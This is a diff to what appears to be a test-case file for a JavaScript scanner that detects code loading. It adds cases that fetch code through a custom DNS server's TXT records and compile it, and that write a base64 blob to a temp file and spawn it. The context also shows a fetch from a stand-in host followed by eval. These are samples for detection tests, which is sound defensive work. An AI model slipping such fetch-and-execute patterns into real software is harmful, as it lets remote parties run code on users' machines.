@@ -99,6 +99,14 @@ export default defineCases({
       code: "fetch('https://payload.example/x.js').then((r) => r.text()).then((t) => eval(t))",
     },
     {
+      name: 'what a name server of its own tells',
+      code: "const { Resolver } = require('dns').promises;\nconst r = new Resolver();\nr.setServers(['192.0.2.53']);\nr.resolveTxt('cfg.example').then((t) => new module.constructor()._compile(t.flat().join(''), 'c.js'))",
+    },
+    {
+      name: 'a packed module that is written through a handle and started',
+      code: "const fs = require('fs').promises, p = require('os').tmpdir() + '/x.js';\n(async () => { const h = await fs.open(p, 'w'); await h.writeFile(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64')); await h.close(); require('child_process').spawn('node', [p]) })()",
+    },
+    {
       name: 'a module compiled from hex',
       code: "const Module = require('module');\nconst m = new Module('x');\nm._compile(Buffer.from('636f6e736f6c652e6c6f67283129', 'hex').toString(), 'x.js')",
     },
